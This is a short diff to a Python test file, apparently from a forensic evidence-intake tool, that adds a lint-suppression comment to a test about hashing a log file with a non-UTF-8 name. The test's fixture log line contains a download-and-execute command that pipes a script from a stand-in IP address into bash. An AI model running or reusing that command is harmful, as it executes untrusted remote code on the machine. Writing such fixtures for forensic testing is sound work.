@@ -230,7 +230,7 @@ def test_a_name_that_is_not_utf8_is_hashed_by_its_name_on_disk(tmp_path):
 
     case_dir = tmp_path / "case"
     (case_dir / "logs").mkdir(parents=True)
-    with open(os.fsencode(case_dir / "logs") + b"/build-\xff.log", "wb") as fh:
+    with open(os.fsencode(case_dir / "logs") + b"/build-\xff.log", "wb") as fh:  # noqa: PTH123 - a bytes name
         fh.write(b"2026-11-14T03:08:01Z curl -sSL http://203.0.113.7/p.sh | bash\n")
     ledger = custody.intake(Case.open(case_dir), tmp_path / "out")
     files = [e for e in ledger.entries if e["type"] == "file"]
